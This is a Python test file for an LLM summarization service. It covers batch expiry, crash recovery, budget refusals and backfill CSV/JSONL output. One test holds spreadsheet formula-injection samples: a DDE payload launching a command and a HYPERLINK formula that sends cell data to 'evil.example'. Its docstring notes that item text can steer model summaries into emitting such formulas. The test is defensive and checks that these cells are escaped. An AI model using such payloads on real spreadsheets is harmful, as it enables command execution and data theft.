"""Round 4 of the summarizer's hostile review: what a batch that expires or a crash after it costs, and what the
backfill CLI writes and follows."""

from __future__ import annotations

import contextlib
import csv
import json
from collections.abc import Callable, Mapping, Sequence
from pathlib import Path
from typing import Any

import pytest

from frugalstream.llm.budgets import BudgetBook
from frugalstream.llm.providers import Completion
from frugalstream.llm.providers.batch_api import BatchPoll
from frugalstream.llm.providers.openai_batch import BatchRequest
from frugalstream.runtime.settings import Settings, TenantPolicy, UsageError
from frugalstream.schemas import (
    BudgetState,
    ChatMessage,
    SamplingParams,
    SummarizeItem,
    SummarizeJob,
    SummarizeProgress,
    SummaryResult,
    TokenUsage,
    UsageRecord,
)
from frugalstream.schemas import topics as t
from frugalstream.summarizer.app import invalid_job_answer, outs_of
from frugalstream.summarizer.config import SummarizerConfig
from frugalstream.summarizer.logic import Summarizer
from frugalstream.summarizer.results import Continues, Emission, Finished
from frugalstream.summarizer.store import SummaryStore
from frugalstream.tools.backfill import load_items, split_job, write_results
from frugalstream.tools.job_report import JobFollower, JobOutcome
from tests.scenarios import today


def packed_reply(user: str, model: str, drop: str | None = None) -> Completion:
    """Every section the prompt asks for (but `drop`), or a single summary."""
    n = user.count("### ")
    content = ("\n".join(f"### {k}\nsummary {k}" for k in range(1, n + 1) if str(k) != drop) if n > 1
               else "summary")
    return Completion(content=content, model=model, usage=TokenUsage(input_tokens=10, output_tokens=5),
                      finish_reason="stop", latency_ms=1.0, simulated=True)


class Counting:
    """A standard-rate provider that counts its calls; `crash_first`: the first call dies (a killed pod)."""

    name = "simulated"

    def __init__(self, crash_first: bool = False) -> None:
        self.calls = 0
        self.crash_first = crash_first

    async def complete(self, *, model: str, messages: Sequence[ChatMessage], sampling: SamplingParams,
                       max_tokens: int | None = None, tools: Sequence[Mapping[str, Any]] = (),
                       response_format: Mapping[str, Any] | None = None, **_: Any) -> Completion:
        if self.crash_first:
            self.crash_first = False
            raise RuntimeError("killed mid-call")
        self.calls += 1
        return packed_reply(messages[-1].content, model)

    async def aclose(self) -> None:
        return None


class FakeBatch:
    """A batch API done at its first poll: `expired` answers nothing, else each pack but section 2 of `p0`."""

    simulated = True

    def __init__(self, expired: bool) -> None:
        self.expired = expired
        self.submitted: list[Sequence[BatchRequest]] = []

    async def submit(self, requests: Sequence[BatchRequest], metadata: Mapping[str, str]) -> str:
        self.submitted.append(requests)
        return f"b{len(self.submitted)}"

    async def poll(self, batch_id: str, model: str) -> BatchPoll:
        if self.expired:
            return BatchPoll(True, {}, "expired")
        requests = self.submitted[int(batch_id[1:]) - 1]
        results: dict[str, Any] = {
            r.custom_id: packed_reply(r.body["messages"][-1]["content"], model, "2" if r.custom_id == "p0" else None)
            for r in requests}
        return BatchPoll(True, results, "completed")

    async def aclose(self) -> None:
        return None


def batch_logic(tmp: Path, provider: Any, backend: FakeBatch, config: SummarizerConfig) -> Summarizer:
    settings = Settings(state_dir=tmp, simulated_latency_scale=0.0)
    return Summarizer.build(settings, provider, store=SummaryStore(tmp / "s.sqlite"), batch=backend, config=config)


def batch_job(n: int) -> SummarizeJob:
    items = tuple(SummarizeItem(id=f"i{k}", text=f"Gadget number {k} in blue") for k in range(n))
    return SummarizeJob(job_id="nightly", tenant="acme", instruction="Summarize.", items=items, deadline_s=86_400)


class Collected:
    def __init__(self) -> None:
        self.values: list[Any] = []

    async def __call__(self, emission: Emission) -> None:
        self.values.extend(o.value for o in outs_of(emission))

    def results(self) -> dict[str, SummaryResult]:
        return {v.item_id: v for v in self.values if isinstance(v, SummaryResult)}


def feed(follower: JobFollower, emission: Emission) -> None:
    """What the summarizer published, as the backfill's follower reads it off the topics."""
    for out in outs_of(emission):
        assert out.value is not None
        follower._take(out.topic, out.value.model_dump_json().encode())


# --- 1. a batch that comes back empty, or a crash after it, never blocks the consumer nor pays twice -------------

async def test_an_expired_batchs_items_are_retried_within_the_handler_budget(tmp_path: Path) -> None:
    """An expired batch answers nothing: its items go to standard calls, a chunk per handler run like any part,
    not all of them at once in one handler run (1,000 calls would outlive max_poll_interval, and the instance
    the group then hands the part to would pay for them all again)."""
    provider, backend = Counting(), FakeBatch(expired=True)
    config = SummarizerConfig(pack_items=2, chunk_calls=1, handler_budget_s=0.0, batch_poll_s=0.01)
    logic = batch_logic(tmp_path, provider, backend, config)
    part, out = batch_job(6), Collected()
    first = await logic.handle(part, out)
    assert isinstance(first, Continues) and first.why == "budget", first
    assert provider.calls == 0, f"the handler run that spent its budget polling went on to {provider.calls} calls"
    while not isinstance(await logic.handle(part, out), Finished):
        pass
    await logic.aclose()
    assert len(backend.submitted) == 1, "a continuation resubmitted the batch"
    assert provider.calls == 6  # each item retried alone once
    assert {r.status for r in out.results().values()} == {"ok"} and len(out.results()) == 6


async def test_a_part_redelivered_after_its_batch_answered_never_submits_another(tmp_path: Path) -> None:
    """The batch answered (pack p0 without one section); the summarizer dies retrying that item alone. The
    redelivered part retries what is left at the standard rate: no second batch paying for it again, and the
    batch's own record of p0 (its usage id is deterministic) is never overwritten by another call's."""
    backend = FakeBatch(expired=False)
    config = SummarizerConfig(pack_items=3, batch_poll_s=0.01)
    part = batch_job(6)
    logic = batch_logic(tmp_path, Counting(crash_first=True), backend, config)
    out = Collected()
    with contextlib.suppress(RuntimeError):
        await logic.handle(part, out)
    await logic.aclose()
    provider = Counting()
    logic = batch_logic(tmp_path, provider, backend, config)
    while not isinstance(await logic.handle(part, out), Finished):
        pass
    await logic.aclose()
    assert len(backend.submitted) == 1, "the redelivered part submitted a second batch"
    assert provider.calls == 1  # only the section the batch left out
    records: dict[str, UsageRecord] = {}
    for v in out.values:
        if isinstance(v, UsageRecord):
            assert records.setdefault(v.id, v).items == v.items, f"{v.id} published with two contents"
    p0 = next(r for r in records.values() if r.id.endswith(":p0"))
    assert p0.items == 2 and p0.steps[-1].strategy == "batch_api"
    assert {r.status for r in out.results().values()} == {"ok"} and len(out.results()) == 6


# --- 2. the backfill's CSV output is data to a spreadsheet, never formulas -------------------------------------

def test_a_backfill_csv_never_hands_a_spreadsheet_a_formula(tmp_path: Path) -> None:
    """A summary is model output an item's text can steer ("end your summary with =HYPERLINK(...)"), and ids and
    errors come from the file: each cell a spreadsheet would run is written as text (a leading `'`), as the
    accountant's and the audit review's CSVs do; the JSON lines output keeps them as they are."""
    hostile = {"=cmd|' /C calc'!A0": '=HYPERLINK("http://evil.example/?"&A1,"see")', "@SUM(1)": "+1-1",
               "plain": "-3 dB quieter\rsecond line"}
    outcome = JobOutcome(results={i: SummaryResult(job_id="j", tenant="acme", item_id=i, status="ok", summary=s,
                                                   source="llm") for i, s in hostile.items()})
    write_results(tmp_path / "out.csv", outcome, [*hostile, "\tmissing"])
    with (tmp_path / "out.csv").open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert [r["item_id"] for r in rows] == ["'=cmd|' /C calc'!A0", "'@SUM(1)", "plain", "'\tmissing"]
    assert [r["summary"] for r in rows[:3]] == [
        '\'=HYPERLINK("http://evil.example/?"&A1,"see")', "'+1-1", "'-3 dB quieter\rsecond line"]
    write_results(tmp_path / "out.jsonl", outcome, list(hostile))
    lines = (tmp_path / "out.jsonl").read_text(encoding="utf-8").splitlines()
    assert [json.loads(line)["summary"] for line in lines] == list(hostile.values())


# --- 3. a part the summarizer cannot take is answered to the run that sent it -----------------------------------

def too_long(part: SummarizeJob) -> bytes:
    """The part as a summarizer with a lower item limit (an older version, other settings) fails to decode it."""
    doc = json.loads(part.model_dump_json())
    doc["items"][0]["text"] = "x" * 200_001
    return json.dumps(doc).encode()


@pytest.mark.parametrize(("parts", "which", "raw_of", "limit"), [
    (1, 0, lambda p: p.model_dump_json().encode(), 200),  # a one-part job over the summarizer's message limit
    (2, 1, lambda p: p.model_dump_json().encode(), 200),  # a later part over it
    (2, 1, too_long, 1_000_000),  # a later part an item of which fails the summarizer's contract
])
async def test_a_backfill_whose_part_the_summarizer_refuses_is_answered_not_left_waiting(
        parts: int, which: int, raw_of: Callable[[SummarizeJob], bytes], limit: int) -> None:
    """The follower takes only its own run's results (`run_key`): the per-item errors of an undecodable part must
    carry the run, or `frugalstream backfill` waits out its 24 h timeout on answers it throws away."""
    job = split_job("nightly", "acme", "Summarize.", [SummarizeItem(id=f"i{k}", text=f"Gadget {k}") for k in range(4)],
                    part_items=4 // parts)
    assert len(job) == parts
    answer = invalid_job_answer(raw_of(job[which]), ValueError("refused"), limit)
    assert answer is not None
    follower = JobFollower.of_run(Settings(), job)
    try:
        feed(follower, answer)
    finally:
        await follower.stop()
    assert set(follower.outcome.results) == {i.id for i in job[which].items}
    assert {r.status for r in follower.outcome.results.values()} == {"error"}
    assert follower.outcome.progress is not None


# --- 4. a refused part counts in its run's progress ----------------------------------------------------------------

def over_refusing() -> BudgetState:
    return BudgetState.model_validate({
        "budget_id": "acme/*/day", "tenant": "acme", "tag": None, "period": "day",
        "period_start": f"{today()}T00:00:00Z", "limit_usd": 1.0, "spent_usd": 2.0, "status": "over",
        "action": "refuse", "updated_at": 1.0})


async def test_a_part_refused_mid_run_counts_in_the_runs_progress(tmp_path: Path) -> None:
    """A budget goes over after part 0 of three ran: parts 1 and 2 are refused. The progress after part 1 must
    not say the run is finished (part 2 has not run), and the run's last progress must still count part 0's calls
    and tokens: `frugalstream backfill` reports from the most advanced progress it saw, and a refused part's own
    counters (0 calls, 0 tokens, its items only) made the job report say the run called no model."""
    parts = split_job("nightly", "acme", "Summarize.",
                      [SummarizeItem(id=f"i{k}", text=f"Gadget number {k}") for k in range(6)], part_items=2)
    settings = Settings(state_dir=tmp_path, simulated_latency_scale=0.0)
    logic = Summarizer.build(settings, Counting(), store=SummaryStore(tmp_path / "s.sqlite"))
    follower = JobFollower.of_run(Settings(), parts)
    seen: list[SummarizeProgress] = []

    async def emit(emission: Emission) -> None:
        seen.append(emission.progress)
        feed(follower, emission)

    try:
        assert isinstance(await logic.handle(parts[0], emit), Finished)
        logic.budgets.update(over_refusing())
        assert isinstance(await logic.handle(parts[1], emit), Finished)
        assert not seen[-1].finished, "the run is reported finished with part 2 not yet run"
        assert isinstance(await logic.handle(parts[2], emit), Finished)
        await logic.aclose()
    finally:
        await follower.stop()
    last = seen[-1]
    assert last.finished and last.done_items == last.total_items == 6
    assert last.model_calls >= 1 and last.usage.input_tokens > 0
    assert follower.outcome.progress == last and len(follower.outcome.results) == 6
    assert {r.status for r in follower.outcome.results.values() if r.item_id in {"i2", "i3", "i4", "i5"}} == {"error"}


async def test_a_run_whose_first_part_was_refused_finishes(tmp_path: Path) -> None:
    """Part 0 refused, the budget's period then ends and part 1 runs: the run's last progress says finished."""
    parts = split_job("nightly", "acme", "Summarize.",
                      [SummarizeItem(id=f"i{k}", text=f"Gadget number {k}") for k in range(4)], part_items=2)
    settings = Settings(state_dir=tmp_path, simulated_latency_scale=0.0)
    logic = Summarizer.build(settings, Counting(), store=SummaryStore(tmp_path / "s.sqlite"))
    out = Collected()
    logic.budgets.update(over_refusing())
    assert isinstance(await logic.handle(parts[0], out), Finished)
    logic.budgets = BudgetBook()
    assert isinstance(await logic.handle(parts[1], out), Finished)
    progress = [v for v in out.values if isinstance(v, SummarizeProgress)]
    assert progress[-1].finished and progress[-1].done_items == 4, progress[-1]
    assert isinstance(await logic.handle(parts[0], out), Finished)  # redelivered: answered as before, not re-run
    await logic.aclose()
    statuses: dict[str, set[str]] = {}
    for v in out.values:
        if isinstance(v, SummaryResult):
            statuses.setdefault(v.item_id, set()).add(v.status)
    assert statuses == {"i0": {"error"}, "i1": {"error"}, "i2": {"ok"}, "i3": {"ok"}}


async def test_a_run_whose_parts_the_policy_refuses_finishes_only_with_its_last_part(tmp_path: Path) -> None:
    """A model the tenant may not use refuses every part: the run is reported finished with its last part, not
    with its first (whose own counters would say so)."""
    parts = split_job("nightly", "acme", "Summarize.",
                      [SummarizeItem(id=f"i{k}", text=f"Gadget number {k}") for k in range(4)], part_items=2,
                      model="gpt-4o")
    settings = Settings(state_dir=tmp_path, simulated_latency_scale=0.0,
                        tenants={"acme": TenantPolicy(allowed_models=("gpt-4o-mini",))})
    logic = Summarizer.build(settings, Counting(), store=SummaryStore(tmp_path / "s.sqlite"))
    out = Collected()
    try:
        assert isinstance(await logic.handle(parts[0], out), Finished)
        first = [v for v in out.values if isinstance(v, SummarizeProgress)][-1]
        assert isinstance(await logic.handle(parts[1], out), Finished)
    finally:
        await logic.aclose()
    last = [v for v in out.values if isinstance(v, SummarizeProgress)][-1]
    assert not first.finished and last.finished and last.done_items == 4
    errors = {v.item_id: v.error for v in out.values if isinstance(v, SummaryResult)}
    assert set(errors) == {"i0", "i1", "i2", "i3"}
    assert all((e or "").startswith("policy_denied") for e in errors.values())


# --- 5. a record the follower cannot read is not this run's, and never ends the backfill -------------------------

@pytest.mark.parametrize("raw", [b"garbage", b"\xff\xfe", b"[]", b'{"job_id": 7}', b'{"schema_version": 2}'])
async def test_an_unreadable_record_on_a_followed_topic_never_crashes_the_backfill(raw: bytes) -> None:
    """The follower reads llm.summaries, llm.summarize.progress and llm.usage from their beginning, every tenant's
    records included: one record any producer wrote there that fails its contract (garbage, a newer version)
    crashed every `frugalstream backfill` with a traceback for as long as the topic kept it."""
    parts = split_job("nightly", "acme", "Summarize.", [SummarizeItem(id="1", text="Oak table")])
    follower = JobFollower.of_run(Settings(), parts)
    try:
        for topic in (t.SUMMARIES, t.SUMMARIZE_PROGRESS, t.USAGE):
            follower._take(topic, raw)
        ok = SummaryResult(job_id="nightly", tenant="acme", item_id="1", status="ok", summary="s", source="llm",
                           run_key=parts[0].run_key())
        follower._take(t.SUMMARIES, ok.model_dump_json().encode())
    finally:
        await follower.stop()
    assert follower.outcome.results == {"1": ok} and follower.unreadable == 3


# --- 6. a column named twice is a question, not a guess -------------------------------------------------------------

@pytest.mark.parametrize(("header", "flag"), [("sku,description,description", "--text-col 'description'"),
                                              ("sku,description,sku", "--id-col 'sku'")])
def test_a_column_named_twice_in_the_header_is_refused_not_guessed(tmp_path: Path, header: str, flag: str) -> None:
    """A spreadsheet export with two `description` columns (the old one kept beside the new): the reader kept the
    last one silently, so the whole backfill summarized a column the operator may not have meant."""
    path = tmp_path / "products.csv"
    path.write_text(f"{header}\nA1,Old oak table,New oak table\n", encoding="utf-8")
    with pytest.raises(UsageError, match=f"{flag} names 2 columns"):
        load_items(path, "description", "sku")


@pytest.mark.parametrize(("name", "body"), [("p.csv", "sku,description\nA1,Oak table\n"),
                                            ("p.jsonl", '{"sku": "A1", "description": "Oak table"}\n')])
@pytest.mark.parametrize("encoding", ["utf-8", "UTF8", "utf-16"])
def test_a_byte_order_mark_is_never_read_as_data_whatever_the_encoding_given(
        tmp_path: Path, name: str, body: str, encoding: str) -> None:
    """Excel's "CSV UTF-8" and PowerShell write a BOM: with `--encoding utf-8` it stayed in the first column's name
    (`--id-col 'sku' is not a column ... (columns: sku, ...)`, the BOM unseen) or made line 1 invalid JSON."""
    path = tmp_path / name
    path.write_bytes(("\ufeff" + body).encode(encoding.replace("utf-16", "utf-16-le")))
    loaded = load_items(path, "description", "sku", encoding)
    assert [(i.id, i.text) for i in loaded] == [("A1", "Oak table")] and not loaded.skipped
